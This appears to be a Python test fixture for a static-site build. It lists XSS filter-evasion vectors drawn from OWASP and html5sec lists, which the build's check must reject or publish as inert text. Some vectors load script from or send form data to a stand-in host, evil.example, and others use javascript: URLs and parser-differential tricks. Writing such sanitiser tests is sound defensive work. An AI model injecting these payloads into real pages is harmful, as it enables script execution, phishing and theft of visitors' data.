"""Hostile markup an editor's body may carry, as browsers parse it.

Each vector, put in a Markdown body, must either be reported as an error by
``invoke check`` (and stop the build) or be published as harmless text.
Collected from the classes of the security issue and the usual public XSS
filter-evasion lists (OWASP's cheat sheet, the html5sec.org vectors).
"""

from __future__ import annotations

# Markup that would run script, load foreign content or restyle the page.
SCRIPT_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<p onmouseover=alert(1)>di chuột vào đây</p>",
    '<a href="javascript:alert(1)">bấm</a>',
    '<a href="JaVaScRiPt:alert(1)">bấm</a>',
    '<a href="java&#x09;script:alert(1)">bấm</a>',
    '<a href="&#106;avascript:alert(1)">bấm</a>',
    '<a href="\x01javascript:alert(1)">bấm</a>',
    '<a href=" javascript:alert(1)">bấm</a>',
    '<a href="vbscript:msgbox(1)">bấm</a>',
    '<a href="data:text/html,<script>alert(1)</script>">bấm</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="http://www.youtube.com/embed/x"></iframe>',  # not https
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<form action="https://evil.example/"><input name=p><button>Gửi</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">GIẢ</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    # Parser differentials: html.parser and browsers disagree on these.
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xmp></xmp><img src=x onerror=alert(1)></xmp>",
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    "<template><img src=x onerror=alert(1)></template>",
    "<select><img src=x onerror=alert(1)></select>",
    '<img src="x" srcset="https://evil.example/track.gif 1x">',
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>chạy chữ</marquee>",
    '<isindex action="javascript:alert(1)" type=image>',
    '<a href="https://evil.example/" ping="https://evil.example/track">x</a>',
]

# Markup shown as text: a code span, a fenced block, escaped characters. It
# must be published (no error) and appear on the page literally.
TEXT_VECTORS = [
    "`<img src=x onerror=alert(1)>`",
    "`<script>alert(1)</script>`",
    "    <svg onload=alert(1)>",
    "Ví dụ: &lt;img src=x onerror=alert(1)&gt; là mã độc.",
    "Cụm `</script><script>alert(1)</script>` trong mã.",
    "Dấu `<!--` mở chú thích HTML.",
]

# Harmless leftovers of pasted HTML: dropped with a warning, page published.
PASTED_LEFTOVERS = [
    '<font color="red">chữ đỏ</font>',
    '<p data-mce-style="x">đoạn dán</p>',
    '<span class="MsoNormal">văn bản Word</span>',
    "<center>giữa</center>",
    '<a href="#" id="pagefind">DOM clobbering: id dropped</a>',
]
